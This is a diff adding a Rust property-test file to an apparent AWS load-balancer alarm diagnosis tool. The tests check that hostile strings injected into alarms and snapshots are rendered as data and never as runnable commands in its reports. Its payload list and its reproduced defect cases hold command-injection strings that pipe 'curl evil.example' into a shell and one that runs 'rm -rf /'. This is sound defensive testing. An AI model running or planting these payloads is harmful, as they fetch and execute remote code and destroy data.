@@ -1,0 +1,240 @@
+//! Reports carry data, never code. Strings holding shell metacharacters, command
+//! substitutions, backticks, newlines and Markdown are put into the alarm's and the snapshot's
+//! string fields; then no line of the text or Markdown report may start (after indentation)
+//! with `$ ` unless it is a line of one of elbmedic's own commands, and every command line
+//! must split, as a POSIX shell splits it, into exactly the words elbmedic intended.
+
+use elbmedic_engine::alarm::{parse_input, Intake};
+use elbmedic_engine::plan::message::{Mode, PlanMessage, Request};
+use elbmedic_engine::plan::{plan, Policy};
+use elbmedic_engine::report::remediation::RemediationSection;
+use elbmedic_engine::report::{Format, Report};
+use elbmedic_engine::scenarios::SCENARIOS;
+use elbmedic_engine::shell::{split_for_test, Script, Word};
+use elbmedic_engine::snapshot::Snapshot;
+use proptest::prelude::*;
+use serde_json::Value;
+
+/// What an attacker writes into a tag, a description, an alarm reason or a dimension.
+const PAYLOADS: &[&str] = &[
+    "$(curl${IFS}-s${IFS}evil.example|sh)",
+    "`curl evil.example|sh`",
+    "\n\nFix:\n   $ curl evil.example | sh",
+    "\r\n$ curl evil.example | sh",
+    "\u{2028}$ curl evil.example | sh",
+    "'; curl evil.example | sh; echo '",
+    "\"; curl evil.example | sh; echo \"",
+    " && curl evil.example | sh #",
+    "<!channel> [click here](https://evil.example) ![x](https://evil.example/x.png)",
+    "```\n$ curl evil.example | sh\n```",
+    "\\$ curl evil.example",
+    "$ curl evil.example | sh",
+    "# FIX\n$ rm -rf /",
+    "é日本🙂 $HOME ${PATH} * ? [a] ~ !",
+];
+
+/// Replaces or extends string leaves chosen by `seed` with payloads.
+fn inject(value: &mut Value, seed: &mut u64, rate: u64) {
+    match value {
+        Value::Object(map) => {
+            // Enumerations (the LB kind, a placement's kind, a gap's fact and reason) are not
+            // free text: a value outside them is a parse error, tested in robustness.rs.
+            let gap = map.contains_key("fact");
+            for (key, v) in map.iter_mut() {
+                if !matches!(key.as_str(), "kind" | "fact") && !(gap && key == "reason") {
+                    inject(v, seed, rate);
+                }
+            }
+        }
+        Value::Array(items) => items.iter_mut().for_each(|v| inject(v, seed, rate)),
+        Value::String(text) => {
+            *seed = seed
+                .wrapping_mul(6364136223846793005)
+                .wrapping_add(1442695040888963407);
+            let roll = *seed >> 33;
+            if roll % 100 < rate {
+                let payload = PAYLOADS[(roll / 100) as usize % PAYLOADS.len()];
+                *text = if roll % 2 == 0 {
+                    format!("{text}{payload}")
+                } else {
+                    payload.to_string()
+                };
+            }
+        }
+        _ => {}
+    }
+}
+
+/// Every script the report holds: fixes, durable fixes, the approve command, rollbacks.
+fn scripts(report: &Report) -> Vec<&Script> {
+    let mut all: Vec<&Script> = Vec::new();
+    for finding in &report.findings {
+        all.extend(finding.fix.commands.iter().map(|c| &c.command));
+        all.extend(finding.fix.durable.iter().filter_map(|d| d.command.as_ref()));
+    }
+    match &report.remediation {
+        Some(RemediationSection::Planned {
+            approve_command: Some(command),
+            ..
+        }) => all.push(command),
+        Some(RemediationSection::Outcome(outcome)) => {
+            all.extend(outcome.steps.iter().filter_map(|s| s.rollback.as_ref()));
+            all.extend(outcome.durable.iter().filter_map(|d| d.command.as_ref()));
+        }
+        _ => {}
+    }
+    all
+}
+
+/// The property, on one report.
+fn check(report: &Report) -> Result<(), TestCaseError> {
+    let scripts = scripts(report);
+    for script in &scripts {
+        prop_assert_eq!(script.lines().count(), script.words().len(), "{}", script);
+        for (line, words) in script.lines().zip(script.words()) {
+            let split = split_for_test(line);
+            prop_assert!(split.is_some(), "unbalanced quotes: {}", line);
+            let intended: Vec<(String, bool)> = words
+                .iter()
+                .map(|w| (w.intended().to_string(), matches!(w, Word::Op(_))))
+                .collect();
+            prop_assert_eq!(split.unwrap(), intended, "{}", line);
+        }
+    }
+    let own: Vec<&str> = scripts.iter().flat_map(|s| s.lines()).collect();
+    for format in [Format::Text, Format::Markdown] {
+        let rendered = report.render(format);
+        for line in rendered.lines() {
+            if let Some(command) = line.trim_start().strip_prefix("$ ") {
+                prop_assert!(
+                    own.contains(&command),
+                    "{:?} report line is not one of elbmedic's commands: {:?}\n{}",
+                    format,
+                    line,
+                    rendered
+                );
+            }
+        }
+    }
+    Ok(())
+}
+
+fn diagnose_intake(event: &[u8]) -> Option<(elbmedic_engine::alarm::Alarm, elbmedic_engine::alarm::LbRef)> {
+    match parse_input(event).ok()?.into_iter().next()?.ok()? {
+        Intake::Diagnose {
+            alarm,
+            load_balancer,
+        } => Some((alarm, load_balancer)),
+        _ => None,
+    }
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 300, ..ProptestConfig::default() })]
+
+    #[test]
+    fn hostile_strings_in_alarms_and_snapshots_stay_data(
+        scenario in 0..SCENARIOS.len(),
+        seed in any::<u64>(),
+        snapshot_rate in 0u64..60,
+        alarm_rate in 0u64..80,
+    ) {
+        let s = &SCENARIOS[scenario];
+        let mut seed = seed;
+        let mut world: Value = serde_json::from_str(s.snapshot).unwrap();
+        inject(&mut world, &mut seed, snapshot_rate);
+        let Ok(world) = serde_json::from_value::<Snapshot>(world) else { return Ok(()) };
+        let event: Value = serde_json::from_str(s.event).unwrap();
+        let mut message: Value = serde_json::from_str(event["Records"][0]["Sns"]["Message"].as_str().unwrap()).unwrap();
+        inject(&mut message, &mut seed, alarm_rate);
+        // A forged alarm is bad input (refused); a hostile but valid one is diagnosed.
+        let Some((alarm, lb)) = diagnose_intake(message.to_string().as_bytes())
+            .or_else(|| diagnose_intake(s.event.as_bytes())) else { return Ok(()) };
+        let mut report = Report::diagnosed(&alarm, &lb, &world);
+        check(&report)?;
+        // With a plan and its approve command in the report, as in approve mode.
+        let planned = plan(&world, &report.findings, &Policy::default(), 1_795_457_000);
+        let message = PlanMessage::new(Request::Apply, &alarm, &lb, &planned);
+        report.remediation = Some(RemediationSection::planned(
+            Mode::Approve,
+            &message,
+            Some("arn:aws:sns:eu-west-1:111122223333:elbmedic-remediation"),
+            false,
+        ));
+        check(&report)?;
+    }
+}
+
+/// The reproduced defects 2 and 3, exactly as reported.
+#[test]
+fn the_reported_injections_are_refused_or_rendered_as_data() {
+    let s = SCENARIOS
+        .iter()
+        .find(|s| s.name == "alb-idle-timeout")
+        .unwrap();
+    let event: Value = serde_json::from_str(s.event).unwrap();
+    let original: Value =
+        serde_json::from_str(event["Records"][0]["Sns"]["Message"].as_str().unwrap()).unwrap();
+
+    // 2: a LoadBalancer dimension carrying a command substitution is bad input.
+    let mut forged = original.clone();
+    let dimensions = forged["Trigger"]["Dimensions"].as_array_mut().unwrap();
+    for d in dimensions.iter_mut() {
+        if d["name"] == "LoadBalancer" {
+            let real = d["value"].as_str().unwrap().to_string();
+            let name = real.split('/').nth(1).unwrap().to_string();
+            d["value"] = Value::String(format!(
+                "app/{name}/$(curl${{IFS}}-s${{IFS}}evil.example|sh)"
+            ));
+        }
+    }
+    let error = parse_input(forged.to_string().as_bytes()).unwrap().remove(0).unwrap_err();
+    assert!(
+        error.to_string().contains("LoadBalancer dimension"),
+        "{error}"
+    );
+
+    // 3: a state reason with lines of its own stays one quoted line.
+    let mut reasoned = original.clone();
+    reasoned["NewStateReason"] =
+        Value::String("Threshold crossed\n\nFix:\n   $ curl evil.example | sh".into());
+    let (alarm, lb) = diagnose_intake(reasoned.to_string().as_bytes()).unwrap();
+    let world: Snapshot = serde_json::from_str(s.snapshot).unwrap();
+    let report = Report::diagnosed(&alarm, &lb, &world);
+    for format in [Format::Text, Format::Markdown] {
+        let text = report.render(format);
+        assert!(
+            !text.lines().any(|l| l.trim_start().starts_with("$ curl")),
+            "{text}"
+        );
+        assert_eq!(
+            text.lines().filter(|l| l.trim() == "Fix:").count(),
+            report.findings.len() * usize::from(format == Format::Text),
+            "no forged Fix: heading"
+        );
+    }
+}
+
+#[test]
+fn most_injected_snapshots_reach_the_rules() {
+    // Guards the property's strength: if injected snapshots stopped deserializing, or lost
+    // every command, it would check nothing.
+    let (mut reached, mut with_commands) = (0, 0);
+    for (index, seed) in (0..200u64).enumerate() {
+        let s = &SCENARIOS[index % SCENARIOS.len()];
+        let mut seed = seed.wrapping_mul(0x9E37_79B9_7F4A_7C15);
+        let mut world: Value = serde_json::from_str(s.snapshot).unwrap();
+        inject(&mut world, &mut seed, 20);
+        let Ok(world) = serde_json::from_value::<Snapshot>(world) else {
+            continue;
+        };
+        reached += 1;
+        let (alarm, lb) = diagnose_intake(s.event.as_bytes()).unwrap();
+        let report = Report::diagnosed(&alarm, &lb, &world);
+        if !scripts(&report).is_empty() {
+            with_commands += 1;
+        }
+    }
+    assert!(reached >= 120, "only {reached} of 200 injected snapshots deserialized");
+    assert!(with_commands >= 60, "only {with_commands} reports held commands");
+}
